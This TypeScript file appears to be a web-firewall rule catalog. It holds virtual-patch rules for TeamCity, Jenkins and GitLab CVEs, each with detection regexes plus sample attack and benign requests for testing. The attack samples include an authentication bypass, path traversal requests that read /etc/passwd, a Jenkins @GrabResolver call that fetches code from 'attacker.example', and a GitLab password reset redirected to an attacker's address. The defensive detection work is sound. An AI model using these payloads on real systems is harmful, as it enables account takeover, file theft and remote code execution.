// Tools of developers: TeamCity, Jenkins, GitLab.
import { asPath, asSent, type CatalogPatch, definePatch, json, xml } from '../entry.js';

const r = String.raw;

export const developmentPatches: readonly CatalogPatch[] = [
  definePatch({
    id: 1007413,
    cve: 'CVE-2024-27198',
    title: 'TeamCity login bypass',
    product: 'JetBrains TeamCity',
    affected: 'before 2023.11.4',
    cwe: 'CWE-288',
    severity: 'critical',
    phase: 1,
    links: [['ARGS_GET:jsp', r`@rx ;|^/app/|\.jsp$`, 'urlDecodeUni,lowercase']],
    attack: [['users', 'POST /hax?jsp=/app/rest/users;.jsp', json, '{"username":"x"}']],
    benign: [
      ['users', 'GET /app/rest/users'],
      ['a topic', 'GET /docs?jsp=introduction'],
    ],
  }),
  definePatch({
    id: 1007414,
    cve: 'CVE-2024-27199',
    title: 'TeamCity path traversal',
    product: 'JetBrains TeamCity',
    affected: 'before 2023.11.4',
    cwe: 'CWE-23',
    severity: 'high',
    phase: 1,
    links: [['REQUEST_FILENAME', r`@rx ^/(?:res|update|\.well-known/acme-challenge)/.*\.\./`, asSent]],
    attack: [
      ['diagnostics', 'GET /res/../admin/diagnostic.jsp'],
      ['encoded', 'GET /update/%2e%2e/app/https/settings/uploadCertificate'],
    ],
    benign: [
      ['a resource', 'GET /res/main.css'],
      ['in the query', 'GET /res/a.js?from=../x'],
    ],
  }),
  definePatch({
    id: 1007415,
    cve: 'CVE-2023-42793',
    title: 'TeamCity tokens without login',
    product: 'JetBrains TeamCity',
    affected: 'before 2023.05.4',
    cwe: 'CWE-288',
    severity: 'critical',
    phase: 1,
    links: [['REQUEST_FILENAME', r`@rx ^/app/rest/.*/rpc2$`, asPath]],
    attack: [['token', 'POST /app/rest/users/id:1/tokens/RPC2']],
    benign: [
      ['a token', 'POST /app/rest/users/id:1/tokens/build'],
      ["the agents' door", 'POST /RPC2', xml, '<methodCall/>'],
    ],
  }),
  definePatch({
    id: 1007416,
    cve: 'CVE-2024-23897',
    title: 'Jenkins CLI reads files',
    product: 'Jenkins',
    affected: '2.441 and older, LTS 2.426.2 and older',
    cwe: 'CWE-27',
    technique: 'T1005',
    severity: 'critical',
    phase: 1,
    links: [
      ['REQUEST_FILENAME', r`@rx /cli$|/cli/$`, asPath],
      ['ARGS_GET:remoting', '@streq false', 'trim,lowercase'],
    ],
    attack: [
      [
        'CLI over HTTP',
        'POST /cli?remoting=false',
        { Session: '39382176-ac9c-4a00-bbc6-4172b3cf1e92', Side: 'upload', 'Content-Type': 'application/octet-stream' },
        'x@/etc/passwd',
      ],
    ],
    benign: [
      ['its page', 'GET /cli/'],
      ['a project', 'GET /job/cli?remoting=true'],
    ],
  }),
  definePatch({
    id: 1007417,
    cve: 'CVE-2018-1000861',
    title: 'Jenkins calls methods named in the path',
    product: 'Jenkins',
    affected: '2.153 and older, LTS 2.138.3 and older',
    cwe: 'CWE-502',
    severity: 'critical',
    phase: 1,
    links: [['REQUEST_FILENAME', r`@rx /securityrealm/user/[^/]+/descriptorbyname/`, asPath]],
    attack: [
      [
        'script check',
        'GET /securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.S' +
          'ecureGroovyScript/checkScript?sandbox=true&value=x',
      ],
    ],
    benign: [
      ['a profile', 'GET /securityRealm/user/admin/'],
      ["a job's check", 'GET /job/a/descriptorByName/hudson.tasks.Shell/checkCommand'],
    ],
  }),
  definePatch({
    id: 1007418,
    cve: 'CVE-2019-1003000',
    title: 'Jenkins pipeline check runs annotations',
    product: 'Jenkins Script Security and Pipeline plug-ins',
    affected: 'Script Security 1.49 and older',
    cwe: 'CWE-693',
    severity: 'high',
    phase: 2,
    links: [
      ['REQUEST_FILENAME', r`@rx /descriptorbyname/org\.jenkinsci\.plugins\.[^/]+/checkscript`, asPath],
      ['ARGS:value', r`@rx @(?:groovy\.transform\.)?(?:grab|asttest|grabresolver|grabconfig)`, 'lowercase'],
    ],
    attack: [
      [
        'dependency from elsewhere',
        'GET /descriptorByName/org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition/' +
          "checkScriptCompile?value=@GrabConfig(disableChecksums=true)%0a@GrabResolver(name='x'," +
          "root='http://attacker.example')",
      ],
    ],
    benign: [
      [
        'a pipeline',
        'POST /descriptorByName/org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition/checkScriptCompile',
        {},
        'value=pipeline+%7B+agent+any+%7D',
      ],
      ['elsewhere', 'POST /x', {}, 'value=@Grab'],
    ],
  }),
  definePatch({
    id: 1007419,
    cve: 'CVE-2023-7028',
    title: 'GitLab sends the reset link to a second address',
    product: 'GitLab CE and EE',
    affected: '16.1 to 16.7.1',
    cwe: 'CWE-640',
    technique: 'T1098',
    severity: 'critical',
    phase: 2,
    links: [
      ['REQUEST_FILENAME', r`@rx /users/password$`, asPath],
      ['ARGS_NAMES', r`@rx ^(?:json\.)?user(?:\[email\]\[|\.email\.)`, 'urlDecodeUni,lowercase'],
    ],
    attack: [
      [
        'two addresses',
        'POST /users/password',
        {},
        'user%5Bemail%5D%5B%5D=anna%40example.org&user%5Bemail%5D%5B%5D=x%40attacker.example',
      ],
    ],
    benign: [
      ['one address', 'POST /users/password', {}, 'user%5Bemail%5D=anna%40example.org'],
      ['elsewhere', 'POST /invite', {}, 'user%5Bemail%5D%5B%5D=a%40example.org'],
    ],
  }),
  definePatch({
    id: 1007420,
    cve: 'CVE-2023-2825',
    title: 'GitLab serves files outside of uploads',
    product: 'GitLab CE and EE',
    affected: '16.0.0',
    cwe: 'CWE-22',
    technique: 'T1083',
    severity: 'critical',
    phase: 1,
    links: [['REQUEST_FILENAME', r`@rx /uploads/[0-9a-f]{32}/.*\.\./`, asSent]],
    attack: [
      [
        'encoded slashes',
        'GET /a/b/c/d/e/f/uploads/4e02c376ac758e162ec674399741e38d//..%2f..%2f..%2f..%2f..%2fetc%2fpasswd',
      ],
    ],
    benign: [
      ['a picture', 'GET /group/project/uploads/4e02c376ac758e162ec674399741e38d/image..png'],
      ['in the query', 'GET /uploads/4e02c376ac758e162ec674399741e38d/a.png?b=../'],
    ],
  }),
];
